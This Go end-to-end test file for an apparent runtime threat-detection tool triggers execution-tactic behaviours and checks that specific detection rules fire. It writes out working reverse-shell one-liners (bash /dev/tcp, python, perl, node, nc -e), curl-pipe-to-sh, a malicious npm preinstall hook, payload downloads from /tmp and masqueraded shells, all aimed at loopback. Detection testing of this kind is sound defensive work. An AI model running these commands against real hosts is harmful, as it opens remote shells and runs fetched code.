package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
)

// Execution: docs/coverage.md's rows of TA0002 (and the rules of
// execution.yaml whose tactic is another: drift, droppers, memfd, the
// services that start what they should not).
func init() {
	register(
		behaviour{
			name: "bash -i reverse shell over /dev/tcp to a loopback listener",
			perform: func(t *testing.T, a *arena) string {
				port := shellCatcher(t)
				a.hostMayFail(t, "bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
				return fmt.Sprintf(`process.command_line:~%q`, fmt.Sprintf("/dev/tcp/127.0.0.1/%d ", port))
			},
			expect: []expected{{"VGL-EXEC-011", "T1059.004"}, {"VGL-NET-001", "T1095"}},
		},
		behaviour{
			name: "python socket reverse shell one-liner to a loopback listener",
			perform: func(t *testing.T, a *arena) string {
				port := shellCatcher(t)
				a.hostMayFail(t, "/usr/bin/python3", "-c", fmt.Sprintf("import socket,subprocess,os;s=socket.socket();"+
					"s.connect(('127.0.0.1',%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])", port))
				return fmt.Sprintf(`process.executable.name:~"^python" process.command_line:~%q`, fmt.Sprintf("127.0.0.1',%d\\)", port))
			},
			expect: []expected{{"VGL-EXEC-012", "T1059"}, {"VGL-NET-004", "T1095"}},
		},
		behaviour{
			name: "perl socket reverse shell one-liner to a loopback listener",
			perform: func(t *testing.T, a *arena) string {
				port := shellCatcher(t)
				a.hostMayFail(t, "perl", "-e", fmt.Sprintf(`use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
					`if(connect(S,sockaddr_in(%d,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`, port))
				return fmt.Sprintf(`process.executable.name:~"^perl" process.command_line:~%q`, fmt.Sprintf("sockaddr_in.%d,", port))
			},
			expect: []expected{{"VGL-EXEC-012", "T1059"}, {"VGL-NET-004", "T1095"}},
		},
		behaviour{
			// Node.js comes with npm, which `make integration` installs for
			// the LogQL grammar (test/setup/logql.sh).
			name: "node one-liner wiring a socket to a shell, to a loopback listener",
			perform: func(t *testing.T, a *arena) string {
				node, err := exec.LookPath("node")
				require.NoError(t, err, "Node.js: test/setup/logql.sh installs it")
				port := shellCatcher(t)
				a.hostMayFail(t, "timeout", "10", node, "-e", fmt.Sprintf("const s=require('net').connect(%d,'127.0.0.1',()=>{"+
					"const sh=require('child_process').spawn('/bin/sh',['-i']);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})", port))
				return fmt.Sprintf(`process.executable.name:~"^node" process.command_line:~%q`, fmt.Sprintf("connect.%d,", port))
			},
			expect: []expected{{"VGL-EXEC-012", "T1059"}, {"VGL-NET-004", "T1095"}},
		},
		behaviour{
			name: "node script run from /tmp",
			perform: func(t *testing.T, a *arena) string {
				node, err := exec.LookPath("node")
				require.NoError(t, err, "Node.js: test/setup/logql.sh installs it")
				file := filepath.Join(tmpDir(t), "stage.js")
				require.NoError(t, os.WriteFile(file, []byte("console.log('staged')\n"), 0o644))
				a.shell(t, fmt.Sprintf("%s %s", node, file))
				return fmt.Sprintf(`vigil.process.script.path:=%q`, file)
			},
			expect: []expected{{"VGL-EXEC-018", "T1059"}},
		},
		behaviour{
			// A real npm install, offline, of a package on disk whose
			// preinstall script fetches a stage from a closed loopback port.
			name: "npm install of a local package whose preinstall script runs curl",
			perform: func(t *testing.T, a *arena) string {
				npm, err := exec.LookPath("npm")
				require.NoError(t, err, "npm: test/setup/logql.sh installs it")
				pkg, root := tmpDir(t), tmpDir(t)
				require.NoError(t, os.WriteFile(filepath.Join(pkg, "package.json"), []byte(`{"name":"vigil-e2e-evil","version":"1.0.0",`+
					`"scripts":{"preinstall":"curl -s -m 2 http://127.0.0.1:9/vigil-e2e-stage.sh -o /dev/null || true"}}`), 0o644))
				a.shell(t, fmt.Sprintf("cd %s && %s install --no-audit --no-fund --offline --install-links %s >/dev/null", root, npm, pkg))
				return `process.command_line:~"vigil-e2e-stage.sh" process.executable.name:="dash"`
			},
			expect: []expected{{"VGL-EXEC-019", "T1195.002"}},
		},
		behaviour{
			name: "download from the loopback web server into /tmp and run it",
			perform: func(t *testing.T, a *arena) string {
				file := filepath.Join(tmpDir(t), "dropped-payload")
				a.shell(t, fmt.Sprintf("curl -sf -o %s http://%s/payload && chmod +x %s && %s; true", file, a.web, file, file))
				return fmt.Sprintf(`process.command_line:~%q`, file)
			},
			expect: []expected{{"VGL-EXEC-008", "T1105"}, {"VGL-EXEC-004", "T1105"}},
		},
		behaviour{
			name: "curl from the loopback web server piped into sh",
			perform: func(t *testing.T, a *arena) string {
				a.hostMayFail(t, "sh", "-c", fmt.Sprintf("curl -s http://%s/vigil-e2e-install.sh | sh -n", a.web))
				return `process.command_line:~"vigil-e2e-install.sh \\| sh"`
			},
			expect: []expected{{"VGL-EXEC-009", "T1059.004"}},
		},
		behaviour{
			name: "program copied to /dev/shm and run",
			perform: func(t *testing.T, a *arena) string {
				file := fmt.Sprintf("/dev/shm/vigil-e2e-%d", os.Getpid())
				t.Cleanup(func() { _ = os.Remove(file) })
				a.shell(t, fmt.Sprintf("cp /usr/bin/true %s && %s; true", file, file))
				return fmt.Sprintf(`process.executable.path:=%q`, file)
			},
			expect: []expected{{"VGL-EXEC-004", "T1105"}},
		},
		behaviour{
			// A package manager's trust goes by its full path in a system
			// directory: a shell copied to /tmp and named dpkg earns none.
			name: "program run from /tmp by a shell copied there and named dpkg",
			perform: func(t *testing.T, a *arena) string {
				dir := tmpDir(t)
				a.shell(t, fmt.Sprintf("cp /bin/sh %[1]s/dpkg && cp /usr/bin/true %[1]s/payload && %[1]s/dpkg -c '%[1]s/payload; true'; true", dir))
				return fmt.Sprintf(`process.executable.path:=%q`, filepath.Join(dir, "payload"))
			},
			expect: []expected{{"VGL-EXEC-004", "T1105"}},
		},
		behaviour{
			// Go's trust goes by the toolchain's full path: a go-build path
			// under a program merely named go earns none.
			name: "program in a go-build directory run by a shell copied to /tmp and named go",
			perform: func(t *testing.T, a *arena) string {
				dir := tmpDir(t)
				build := filepath.Join(dir, "go-build1", "b001")
				require.NoError(t, os.MkdirAll(build, 0o755))
				a.shell(t, fmt.Sprintf("cp /bin/sh %[1]s/go && cp /usr/bin/true %[2]s/x.test && %[1]s/go -c '%[2]s/x.test; true'; true", dir, build))
				return fmt.Sprintf(`process.executable.path:=%q`, filepath.Join(build, "x.test"))
			},
			expect: []expected{{"VGL-EXEC-004", "T1105"}},
		},
		behaviour{
			name: "shell scripts run from /dev/shm and /tmp",
			perform: func(t *testing.T, a *arena) string {
				shm := fmt.Sprintf("/dev/shm/vigil-e2e-script-%d.sh", os.Getpid())
				t.Cleanup(func() { _ = os.Remove(shm) })
				tmp := filepath.Join(tmpDir(t), "vigil-e2e-script.sh")
				for _, file := range []string{shm, tmp} {
					require.NoError(t, os.WriteFile(file, []byte("#!/bin/sh\ntrue\n"), 0o755))
				}
				a.shell(t, fmt.Sprintf("%s; sh %s; true", shm, tmp))
				return `vigil.process.script.path:~"vigil-e2e-script"`
			},
			expect: []expected{{"VGL-EXEC-017", "T1059.004"}},
		},
		behaviour{
			name: "python script run from /tmp",
			perform: func(t *testing.T, a *arena) string {
				file := filepath.Join(tmpDir(t), "vigil-e2e-stage.py")
				require.NoError(t, os.WriteFile(file, []byte("print('staged')\n"), 0o644))
				a.shell(t, fmt.Sprintf("/usr/bin/python3 %s; true", file))
				return fmt.Sprintf(`vigil.process.script.path:=%q`, file)
			},
			expect: []expected{{"VGL-EXEC-018", "T1059"}},
		},
		behaviour{
			name: "program run from a memfd",
			perform: func(t *testing.T, a *arena) string {
				a.host(t, a.actions, "memfd-exec", "/usr/bin/true", "vigil-e2e-memfd")
				return `process.executable.path:~"^/memfd:vigil-e2e-memfd"`
			},
			expect: []expected{{"VGL-EXEC-005", "T1620"}},
		},
		behaviour{
			name: "a copy of sh named nginx starts a shell, python, id and curl",
			perform: func(t *testing.T, a *arena) string {
				nginx := filepath.Join(tmpDir(t), "nginx")
				a.host(t, "cp", "/usr/bin/dash", nginx)
				a.host(t, nginx, "-c", fmt.Sprintf("sh -c 'curl -s -o /dev/null http://%s/vigil-e2e-nginx-stage; true'; "+
					"/usr/bin/python3 -c pass; id >/dev/null; true", a.web))
				return fmt.Sprintf(`(vigil.process.parent.executable.path:=%q or process.command_line:~"vigil-e2e-nginx-stage")`, nginx)
			},
			expect: []expected{{"VGL-EXEC-001", "T1059.004"}, {"VGL-EXEC-003", "T1059"},
				{"VGL-EXEC-016", "T1190"}, {"VGL-NET-005", "T1105"}},
		},
		behaviour{
			name: "sh started through a link named mysqld runs a shell and id",
			perform: func(t *testing.T, a *arena) string {
				mysqld := filepath.Join(tmpDir(t), "mysqld")
				require.NoError(t, os.Symlink("/usr/bin/dash", mysqld))
				a.host(t, mysqld, "-c", "sh -c true; id >/dev/null; true")
				return `vigil.process.parent.name:="mysqld"`
			},
			expect: []expected{{"VGL-EXEC-001", "T1059.004"}, {"VGL-EXEC-016", "T1190"}},
		},
		behaviour{
			name: "nc -e bind shell and its client in a pod",
			perform: func(t *testing.T, a *arena) string {
				where := a.inPod(t, "ip link set lo up && (timeout 10 nc -l -p 4471 -e /bin/sh & sleep 1; echo exit | nc -w 2 127.0.0.1 4471; wait)")
				return where + ` process.command_line:~"-p 4471 -e"`
			},
			expect: []expected{{"VGL-EXEC-010", "T1059.004"}, {"VGL-NET-003", "T1095"}, {"VGL-NET-011", "T1095"}},
		},
		behaviour{
			name: "busybox nc -e hands a shell to a loopback listener on the host",
			perform: func(t *testing.T, a *arena) string {
				port := shellCatcher(t)
				a.hostMayFail(t, "timeout", "10", "busybox", "nc", "127.0.0.1", fmt.Sprint(port), "-e", "/bin/sh")
				return fmt.Sprintf(`process.command_line:~%q`, fmt.Sprintf("nc 127.0.0.1 %d -e", port))
			},
			expect: []expected{{"VGL-EXEC-010", "T1059.004"}},
		},
		behaviour{
			name: "download from a loopback web server and run it in a pod",
			perform: func(t *testing.T, a *arena) string {
				return a.inPod(t, "ip link set lo up && mkdir -p /www && cp /bin/busybox /www/stage && "+
					"(timeout 15 httpd -f -p 127.0.0.1:4472 -h /www & sleep 1; wget -q -T 5 -O /tmp/stage http://127.0.0.1:4472/stage; "+
					"chmod +x /tmp/stage; /tmp/stage true; kill $!; wait; true)")
			},
			expect: []expected{{"VGL-EXEC-007", "T1105"}},
		},
		behaviour{
			name: "shell on a terminal in a pod",
			perform: func(t *testing.T, a *arena) string {
				where := a.inPod(t, "/actions on-terminal /bin/sh -c 'echo vigil-e2e-tty'")
				return where + ` process.command_line:="/bin/sh -c echo vigil-e2e-tty"`
			},
			expect: []expected{{"VGL-EXEC-002", "T1059.004"}},
		},
		behaviour{
			name: "kubectl copied into a runc container and run",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-e2e-kubectl", "mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/kubectl && "+
					"(/usr/local/bin/kubectl get secrets -A; true)")
			},
			expect: []expected{{"VGL-EXEC-013", "T1609"}, {"VGL-EXEC-006", "T1105"}},
		},
		behaviour{
			name: "apk add in a runc container",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-e2e-apk", "mkdir -p /sbin && cp /bin/busybox /sbin/apk && (/sbin/apk add curl; true)")
			},
			expect: []expected{{"VGL-EXEC-014", "T1105"}},
		},
		behaviour{
			name: "program dropped in a runc container's /tmp and run",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-e2e-drift", "cp /bin/busybox /tmp/dropped && /tmp/dropped true")
			},
			expect: []expected{{"VGL-EXEC-006", "T1105"}, {"VGL-EXEC-004", "T1105"}},
		},
	)
}

// Commands run through a.shell end with "; true" so that the shell forks
// them: the test binary runs from Go's go-build directory, and what it
// starts directly is excepted as Go tooling by the pack.
